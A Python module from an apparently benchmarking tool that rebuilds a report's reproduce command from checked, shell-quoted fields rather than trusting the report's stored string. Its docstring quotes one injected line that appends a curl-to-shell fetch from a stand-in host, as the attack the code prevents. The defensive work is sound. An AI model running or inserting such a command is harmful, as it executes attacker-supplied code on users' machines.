"""The command a view shows to run a report's measurement again, rebuilt from
the report's checked fields: never the report's own `reproduce` string.

That string is someone else's text, and it is what people copy: a crafted
report's `bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh`
was printed as a command to paste. Here each word comes from a field that is
checked first (a scenario name as bridge.catalog.scenario.NAME spells one, a
setting within bridge.settings.BOUNDS, the hw mode one of its three, a node
name as a node's), and the views quote each word (shlex.quote) when they lay
the line out (bridge.render.shell).

The line holds what `bridge run` measures again, in the order
bridge.cli.plans.reproduce writes it, so that a report's own line and its
rebuilt one are the same words when nothing is amiss. It never carries what
would run the report's code or load its files: the user's own calls
(`bridge time`, a scenario file's [[calls]]), the variables a runtime was
given (--env), another libcrypto (--libcrypto), a node's cookie. What it
leaves out, and whether the report's own line says something else, is
returned as codes (`Left`) with their parameters, worded by the views
(`notes`).
"""

from __future__ import annotations

import dataclasses
import enum
import functools
import shlex
from dataclasses import dataclass

from bridge.catalog import calls, scenario
from bridge.catalog.vocab import COMMAND, RuntimeKind
from bridge.report import schema
from bridge.report.hw import HwMode
from bridge.settings import BOUNDS, DEFAULT, QUICK, Settings
from bridge.view import home

# A running node's name, as bridge.cli.replay checks one before naming it.
_NODE_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+.-@")

# The settings a flag of `bridge run` sets, in the order plans.reproduce writes them.
_FLAGS = ("samples", "sample_ms", "warmup_ms", "rounds", "openssl_runs", "processes")


# The names a report's own line may call bridge by: reports written before
# the line said crypto-bridge say bridge, and neither differs from the other.
_PROGRAMS = frozenset({"bridge", COMMAND})


class Left(enum.Enum):
    """What the rebuilt command does not carry, or why there is none."""

    USER_CODE = "user-code"  # the user's own calls: a replay shows them and asks
    GIVEN = "given"  # variables (--env) or another libcrypto given to a runtime
    COOKIE = "cookie"  # running nodes: the cookie is the reader's own
    FILES = "files"  # scenarios that are not built in: their files are not in the report
    SIZES = "sizes"  # sizes that no one --sizes gives every scenario
    SETTINGS = "settings"  # a setting bridge run does not take: no command
    NAMES = "names"  # a name or path no command line can carry: no command
    DIFFERS = "differs"  # the report's own line says something else


@dataclass(frozen=True)
class Rebuilt:
    """`argv`: the command, one word each, unquoted (empty: none could be
    rebuilt); `left`: what it leaves out, with `files` the scenarios that
    are not built in."""

    argv: tuple[str, ...]
    left: tuple[Left, ...] = ()
    files: tuple[str, ...] = ()


def of(report: schema.Report) -> Rebuilt | None:
    """The command that measures the report again; None for a report no run
    made (imported `openssl speed` output)."""
    if report.imported_from is not None or not report.scenarios:
        return None
    left: list[Left] = []
    names = [sc.name for sc in report.scenarios]
    if not all(scenario.NAME.fullmatch(n) for n in names):
        return Rebuilt((), (Left.NAMES,))
    if any(sc.user_code for sc in report.scenarios):
        return Rebuilt((), (Left.USER_CODE,))
    settings = _settings(report.settings.to_json())  # the bounds check what was recorded
    hw = _hw(report)
    if settings is None or hw is None:
        return Rebuilt((), (Left.SETTINGS,))
    argv = [COMMAND, "run", *names, "--seed", str(report.seed), "--hw", hw.value]
    builtin = {n: _builtin(n) for n in names}
    files = tuple(n for n, sc in builtin.items() if sc is None)
    argv += _sizes(report, builtin, left)
    argv += _setting_flags(settings)
    argv += _with(report, builtin)
    argv += _runtimes(report, left, _canonical(report.reproduce) or [])
    if not all(w.isprintable() for w in argv):
        # A control, an override or a lone surrogate in a path: a view would
        # show it as an escape, and the line would name another file.
        return Rebuilt((), (Left.NAMES,))
    if files:
        left.append(Left.FILES)
    if not left and report.reproduce and _canonical(report.reproduce) != argv:
        left.append(Left.DIFFERS)
    return Rebuilt(tuple(argv), tuple(dict.fromkeys(left)), files)


def _canonical(line: str) -> list[str] | None:
    """The words of a command line, bridge called by COMMAND and --runtimes
    in the order bridge starts them (a report cannot tell `python,erlang`
    from `erlang,python`)."""
    try:
        words = shlex.split(line)
    except ValueError:
        return None
    if words and words[0] in _PROGRAMS:
        words[0] = COMMAND
    for i, word in enumerate(words[:-1]):
        if word == "--runtimes":
            given = words[i + 1].split(",")
            words[i + 1] = ",".join(sorted(given, key=_kind_order))
    return words


def _kind_order(kind: str) -> int:
    return calls.RUNTIME_KINDS.index(kind) if kind in calls.RUNTIME_KINDS else len(kind)


def _settings(raw: dict) -> Settings | None:
    """The report's settings when each is one `bridge run` takes (the
    bounds a replay checks); None otherwise."""
    if not isinstance(raw, dict) or "seed" not in raw:
        return None
    for name, bound in BOUNDS.items():
        value = raw.get(name)
        if value is None:
            if name == "seed" or (name in raw and not bound.optional):
                return None
            continue
        kind = int if bound.integer else (int, float)
        if isinstance(value, bool) or not isinstance(value, kind):
            return None
        if not bound.low <= value <= bound.high:
            return None
    if not isinstance(raw.get("quick", False), bool):
        return None
    # A setting the report does not have (written before it existed) is
    # the default of its time, which no flag changed.
    known = {k: v for k, v in raw.items() if k in Settings.__dataclass_fields__}
    return dataclasses.replace(QUICK if known.get("quick") else DEFAULT, **known)


def _hw(report: schema.Report) -> HwMode | None:
    try:
        return HwMode(report.hardware.hw or HwMode.ON)
    except ValueError:
        return None


@functools.cache
def _builtin(name: str) -> scenario.Scenario | None:
    """The built-in scenario of this name (not a file of the user's)."""
    path = scenario.BUILTIN_DIR / f"{name}.toml"
    if not path.is_file():
        return None
    try:
        return scenario.load(str(path))
    except Exception:  # a damaged installation: treated as not built in
        return None


def _sizes(
    report: schema.Report, builtin: dict[str, scenario.Scenario | None], left: list[Left]
) -> list[str]:
    """--sizes (and --file-size) where the sizes run are not the built-in
    scenarios' own: one list that every scenario that takes it ran."""
    given: set[tuple[int, ...]] = set()
    files: set[tuple[int, ...]] = set()
    for sc in report.scenarios:
        base = builtin.get(sc.name)
        if base is None or sc.sizes == tuple(base.sizes):
            continue
        (files if isinstance(base, scenario.FileDigestScenario) else given).add(sc.sizes)
    argv: list[str] = []
    if len(given) == 1:
        argv += ["--sizes", ",".join(map(str, next(iter(given))))]
    if len(files) == 1 and len(next(iter(files))) == 1:
        argv += ["--file-size", str(next(iter(files))[0])]
    if len(given) > 1 or len(files) > 1 or any(len(f) != 1 for f in files):
        left.append(Left.SIZES)
    return argv


def _setting_flags(s: Settings) -> list[str]:
    base = QUICK if s.quick else DEFAULT
    argv = ["--quick"] if s.quick else []
    for name in _FLAGS:
        value = getattr(s, name)
        if value != getattr(base, name):
            argv += [BOUNDS[name].option, str(value)]
    if s.until_stable is not None:
        argv += [f"--until-stable={s.until_stable}", "--max-time", str(s.max_seconds)]
    if s.tc_calls:
        argv += ["--method", "tc", "--tc-calls", str(s.tc_calls)]
    return argv


def _with(report: schema.Report, builtin: dict[str, scenario.Scenario | None]) -> list[str]:
    """--concurrency, --schedulers and --with: levels a built-in scenario
    does not run by itself, and the catalog's calls it does not have."""
    argv: list[str] = []
    levels = {
        sc.concurrency
        for sc in report.scenarios
        if (base := builtin.get(sc.name)) is not None and sc.concurrency != base.concurrency
    }
    if len(levels) == 1:
        argv += ["--concurrency", ",".join(map(str, next(iter(levels))))]
    schedulers = report.settings.schedulers
    if schedulers:
        argv += ["--schedulers", str(schedulers)]
    added: dict[tuple[str, str], None] = {}
    for sc in report.scenarios:
        base = builtin.get(sc.name)
        for kind, ids in sc.calls.items():
            own = base.calls.get(kind, ()) if base is not None else ()
            for call_id in ids:
                if base is not None and call_id not in own and calls.lookup(kind, call_id):
                    added[(kind, call_id)] = None
    for kind, call_id in added:
        owners = [k for k in calls.RUNTIME_KINDS if calls.lookup(k, call_id)]
        argv += ["--with", call_id if owners == [kind] else f"{kind}:{call_id}"]
    return argv


def _runtimes(report: schema.Report, left: list[Left], said: list[str]) -> list[str]:
    """--erl/--python/--openssl where a kind ran more than one runtime (the
    paths tell them apart), or where the report's own line (`said`, its
    words) gave the one it ran: the path printed is the runtime's
    executable as the report records it, never a word of that line;
    --runtimes where not every kind was asked for, and the running nodes
    (--node ... --measure)."""
    given = {(flag, path) for flag, path in zip(said, said[1:], strict=False)}
    local = [rt for rt in report.runtimes if not rt.masked and not rt.node_host]
    nodes = [rt for rt in report.runtimes if rt.node_host and not rt.masked]
    argv: list[str] = []
    for kind, flag in (
        (RuntimeKind.ERLANG, "--erl"),
        (RuntimeKind.OPENSSL, "--openssl"),
        (RuntimeKind.PYTHON, "--python"),
    ):
        mine = [rt for rt in local if rt.kind == kind and rt.details.libcrypto_dir is None]
        paths = list(dict.fromkeys(rt.executable for rt in mine))
        if len(paths) > 1 or (len(paths) == 1 and (flag, paths[0]) in given):
            for path in paths:
                argv += [flag, path]
    for rt in report.runtimes:
        if rt.details.given_env or rt.details.libcrypto_dir is not None:
            left.append(Left.GIVEN)
    kinds = [
        k
        for k in calls.RUNTIME_KINDS
        if any(rt.kind == k for rt in local) or any(s.kind == k for s in report.skipped)
    ]
    if kinds and tuple(kinds) != (() if nodes else calls.RUNTIME_KINDS):
        argv += ["--runtimes", ",".join(kinds)]
    if nodes:
        names = list(dict.fromkeys(rt.node.name for rt in nodes if rt.node is not None))
        if not all(n.count("@") == 1 and set(n) <= _NODE_CHARS for n in names):
            left.append(Left.NAMES)
            return argv
        for name in names:
            argv += ["--node", name]
        agent = nodes[0].node.agent if nodes[0].node is not None else None
        load = agent.max_load if agent is not None else None
        argv += ["--measure"]
        if isinstance(load, int | float) and not isinstance(load, bool):
            argv += ["--max-load", f"{load:g}"]
        left.append(Left.COOKIE)
    return argv


def notes(rebuilt: Rebuilt, ascii_only: bool = False) -> list[str]:
    """What a view says under the command (or in its place), one sentence per code."""
    dash = "-" if ascii_only else "–"
    out = []
    for code in rebuilt.left:
        if code is Left.USER_CODE:
            out.append(
                "This report timed the user's own code, which a command line does not carry:"
                " save the report and run `crypto-bridge run --replay REPORT.json`, which shows"
                " each call and asks before running it."
            )
        elif code is Left.GIVEN:
            out.append(
                "Not in the line: the variables (--env) or the other libcrypto (--libcrypto)"
                " the run gave its runtimes; add your own where you want them."
            )
        elif code is Left.COOKIE:
            out.append("Give the nodes' cookie with --cookie-file FILE.")
        elif code is Left.FILES:
            named = ", ".join(rebuilt.files)
            out.append(
                f"Not built in: {named} {dash} run it from its scenario file (--scenario-dir"
                " DIR, or the file's path in its place)."
            )
        elif code is Left.SIZES:
            out.append("The scenarios ran sizes that one --sizes cannot give them all.")
        elif code is Left.SETTINGS:
            out.append(
                "No command: the report's settings are not ones bridge run takes;"
                " `crypto-bridge run --replay REPORT.json` says which."
            )
        elif code is Left.NAMES:
            out.append(
                "No command: the report names a scenario, a node or a runtime's path in a"
                " way no command line can carry (not a name, or a control character in it)."
            )
        elif code is Left.DIFFERS:
            out.append(
                "The report's own command line differs from this one, which is rebuilt from"
                " its settings; it is not shown."
            )
    return out


def words(rebuilt: Rebuilt) -> list[str]:
    """The command's words as a shell reads them: each quoted, and a path in
    the user's home directory written from ~ (unquoted, so the shell expands it)."""
    return [home.shell_word(w) for w in rebuilt.argv]
